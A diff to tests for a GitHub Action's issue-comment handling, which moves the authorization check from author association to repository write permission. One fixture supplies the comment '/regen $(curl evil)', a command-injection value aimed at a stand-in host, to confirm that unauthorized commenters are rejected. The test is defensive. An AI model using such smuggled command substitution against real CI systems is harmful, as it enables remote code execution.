@@ -245,31 +245,33 @@ describe('resolve-image from the REST API when git cannot answer', () => {
     expect(github().requests.some((r) => r.path.includes('/contents/'))).toBe(false)
   })
 
-  it('issue_comment from a trusted commenter reads the PR from the API', async () => {
+  it('issue_comment from a commenter with write access reads the PR from the API', async () => {
     apiPullRequest(['README.md'])
+    github().collaborators.set('someone', { permission: 'write', role_name: 'write' })
     const run = await runAction({
       inputs: inputs(),
       eventName: 'issue_comment',
-      event: issueCommentEvent({ association: 'COLLABORATOR' }),
+      event: issueCommentEvent({ login: 'someone' }),
       workspace: tempDir(),
       apiUrl: github().url,
     })
     expect(run.exitCode, run.stdout).toBe(0)
     expect(run.outputs).toMatchObject({ tag: 'v2', modified: 'false', 'head-sha': 'c'.repeat(40), 'base-ref': 'v2' })
     expect(github().requests.map((r) => r.path)).toEqual([
+      '/repos/acme/app/collaborators/someone/permission',
       '/repos/acme/app/pulls/42',
       '/repos/acme/app/contents/.github%2Fworkflows%2Fbuild-ci-image.yml',
       '/repos/acme/app/pulls/42/files',
     ])
   })
 
-  it('issue_comment from an untrusted commenter fails and does nothing else', async () => {
+  it('issue_comment from a commenter without write access fails and does nothing else', async () => {
     apiPullRequest(['Dockerfile.ci'])
-    const event = issueCommentEvent({ association: 'NONE', login: 'mallory', body: '/regen $(curl evil)' })
+    const event = issueCommentEvent({ association: 'MEMBER', login: 'mallory', body: '/regen $(curl evil)' })
     const run = await runAction({ inputs: inputs(), eventName: 'issue_comment', event, workspace: tempDir(), apiUrl: github().url })
     expect(run.exitCode).toBe(1)
-    expect(run.stdout).toContain('::error::@mallory (author_association NONE) is not allowed to run this')
-    expect(github().requests).toHaveLength(0)
+    expect(run.stdout).toContain('::error::@mallory (repository permission: none) may not run this: trusted-permission is write.')
+    expect(github().requests.map((r) => r.path)).toEqual(['/repos/acme/app/collaborators/mallory/permission'])
     expect(run.outputs).toEqual({})
   })
 
